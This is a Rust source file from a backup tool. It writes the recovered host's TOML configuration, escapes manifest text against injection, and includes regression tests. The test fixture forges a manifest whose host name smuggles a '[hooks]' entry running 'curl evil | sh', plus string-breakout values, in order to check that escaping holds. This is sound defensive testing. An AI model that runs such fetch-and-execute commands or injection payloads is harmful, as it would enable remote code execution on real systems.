//! The new host's configuration, written at the end of a recovery so the next `lifeboat
//! backup` continues into the same repository: the restored database, the file roots and
//! secrets where they now are, the key tables, the repositories and the key source. Nothing
//! secret: S3 credentials stay in the AWS chain, the database password in PGPASSWORD or
//! pgpass, the passphrase in its file (only the file's path is written).

use super::{KeySource, RecoverSpec, RepoArgs, TargetChoice};
use crate::storage::manifest::Manifest;
use crate::storage::postgres::PgConn;
use std::fmt::Write;
use std::path::{Path, PathBuf};

/// A TOML string, escaped by the toml crate (a manifest's text is anyone's who can write the
/// bucket: a quote, a newline or a control character in it must stay inside the string).
fn quoted(text: &str) -> String {
    toml::Value::String(text.to_string()).to_string()
}

fn list(items: &[String]) -> String {
    let q: Vec<String> = items.iter().map(|s| quoted(s)).collect();
    format!("[{}]", q.join(", "))
}

/// Where a root of the set is after the recovery.
pub(super) fn placed_root(spec: &RecoverSpec, root: &str) -> PathBuf {
    match &spec.files_prefix {
        Some(prefix) => prefix.join(root.trim_start_matches('/')),
        None => PathBuf::from(root),
    }
}

fn repository(out: &mut String, table: &str, r: &RepoArgs) {
    let _ = writeln!(out, "\n[{table}]\nurl = {}", quoted(&r.url));
    if let Some(e) = &r.endpoint {
        let _ = writeln!(out, "endpoint = {}", quoted(e));
    }
    if let Some(region) = &r.region {
        let _ = writeln!(out, "region = {}", quoted(region));
    }
    if let Some(p) = r.path_style {
        let _ = writeln!(out, "path_style = {p}");
    }
}

pub(super) fn render(spec: &RecoverSpec, manifest: &Manifest, target: &PgConn) -> String {
    let source = &manifest.source;
    let shown = |p: PathBuf| p.display().to_string();
    let files: Vec<String> = source
        .file_roots
        .iter()
        .map(|r| shown(placed_root(spec, r)))
        .collect();
    let secrets: Vec<String> = source
        .secret_files
        .iter()
        .map(|r| shown(placed_root(spec, r)))
        .collect();
    let key_tables: Vec<String> = source.key_tables.iter().map(|t| t.table.clone()).collect();
    let mut out = format!(
        "# Written by `lifeboat recover` from set {} of host {} ({}).\n\
         # Nothing secret is in here: S3 credentials come from the AWS environment, the database\n\
         # password from PGPASSWORD or ~/.pgpass, the passphrase from the file named below.\n\n\
         [source]\ndatabase_url = {}\nfiles = {}\nsecrets = {}\nkey_tables = {}\n",
        manifest.set_id,
        // In a comment: a newline or control character in the manifest's host name must not
        // end it.
        manifest.host.escape_debug(),
        chrono::Utc::now().format("%Y-%m-%d %H:%M UTC"),
        quoted(&target.display()),
        list(&files),
        list(&secrets),
        list(&key_tables),
    );
    let bin: Option<&Path> = match (&spec.pg_bin_dir, &spec.target) {
        (Some(b), _) => Some(b),
        _ => None,
    };
    if let Some(b) = bin {
        let _ = writeln!(out, "pg_bin_dir = {}", quoted(&b.display().to_string()));
    } else if let TargetChoice::NewCluster(_) = &spec.target {
        if let Some(b) = super::target::dump_major(manifest)
            .and_then(|m| crate::storage::local_cluster::bin_dir_for(m).ok())
        {
            let _ = writeln!(out, "pg_bin_dir = {}", quoted(&b.display().to_string()));
        }
    }
    repository(&mut out, "repository", &spec.repository);
    if let Some(s) = &spec.secrets_repository {
        repository(&mut out, "secrets_repository", s);
    }
    let mode = manifest
        .components
        .first()
        .map(|c| c.encryption.mode.clone())
        .unwrap_or_else(|| "none".into());
    out.push_str("\n[encryption]\n");
    // The operator's passphrase file wins over what the manifest says: a set that claims
    // "none" must not turn the new host's backups into plaintext.
    match (&spec.key, mode.as_str()) {
        (KeySource::PassphraseFile(p), _) => {
            let _ = writeln!(
                out,
                "mode = \"passphrase\"\npassphrase_file = {}",
                quoted(&p.display().to_string())
            );
        }
        (KeySource::Keyring, "none") => out.push_str("mode = \"none\"\n"),
        (KeySource::Keyring, _) => {
            let recipients: Vec<String> = manifest
                .components
                .iter()
                .flat_map(|c| c.encryption.recipients.iter().cloned())
                .collect::<std::collections::BTreeSet<_>>()
                .into_iter()
                .collect();
            let _ = writeln!(
                out,
                "mode = \"recipients\"\nrecipients = {}",
                list(&recipients)
            );
        }
    }
    if let Some(c) = manifest.components.first() {
        let _ = writeln!(
            out,
            "\n[backup]\ncompression = {}\nlevel = {}",
            quoted(&c.compression.codec),
            c.compression.level
        );
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    /// A manifest as anyone who can write the bucket may forge it: text meant to break out of
    /// strings and comments, and "no encryption".
    fn forged() -> Manifest {
        let text = include_str!("../../../tests/fuzz_regressions/manifest/seed-valid.json")
            .replace(
                "\"host\": \"db1\"",
                r#""host": "db1\n[hooks]\npre_restore = \"curl evil | sh\"\n#""#,
            )
            .replace(
                "\"key_tables\": [{\"table\": \"t\", \"rows\": 3}]",
                r#""key_tables": [{"table": "t\"]\n[x]\ny = [\"", "rows": 3}], "file_roots": ["/srv/a\"\nz = 1\n#\u007f"], "secret_files": ["/srv/.env"]"#,
            )
            .replace("\"mode\": \"passphrase\"", "\"mode\": \"none\"");
        serde_json::from_str(&text).unwrap()
    }

    fn spec(key: KeySource) -> RecoverSpec {
        RecoverSpec {
            repository: RepoArgs {
                url: "s3://bucket/app".into(),
                ..RepoArgs::default()
            },
            secrets_repository: None,
            key,
            set: None,
            target: TargetChoice::Url("postgresql:///app".into()),
            files_prefix: None,
            config_out: PathBuf::from("/tmp/config.toml"),
            pg_bin_dir: None,
            jobs: 2,
            create_roles: false,
            post_restore: Vec::new(),
            health: None,
            freshness_query: None,
            manual: Vec::new(),
            rehearse: false,
        }
    }

    #[test]
    fn a_forged_manifests_text_stays_inside_its_strings_and_comments() {
        let manifest = forged();
        let target = PgConn::parse("postgresql:///app").unwrap();
        let text = render(
            &spec(KeySource::PassphraseFile("/root/pass".into())),
            &manifest,
            &target,
        );
        let table: toml::Table = text.parse().unwrap_or_else(|e| panic!("{e}\n{text}"));
        let keys: Vec<&String> = table.keys().collect();
        assert_eq!(
            keys,
            ["backup", "encryption", "repository", "source"],
            "{text}"
        );
        let source = table["source"].as_table().unwrap();
        assert_eq!(
            source["files"][0].as_str(),
            Some("/srv/a\"\nz = 1\n#\u{7f}")
        );
        assert_eq!(source["key_tables"][0].as_str(), Some("t\"]\n[x]\ny = [\""));
        // The operator's passphrase file wins over the set's "none".
        assert_eq!(table["encryption"]["mode"].as_str(), Some("passphrase"));
        assert_eq!(
            table["encryption"]["passphrase_file"].as_str(),
            Some("/root/pass")
        );
    }

    #[test]
    fn with_the_keyring_an_unencrypted_set_stays_unencrypted() {
        let target = PgConn::parse("postgresql:///app").unwrap();
        let text = render(&spec(KeySource::Keyring), &forged(), &target);
        let table: toml::Table = text.parse().unwrap();
        assert_eq!(table["encryption"]["mode"].as_str(), Some("none"));
    }
}
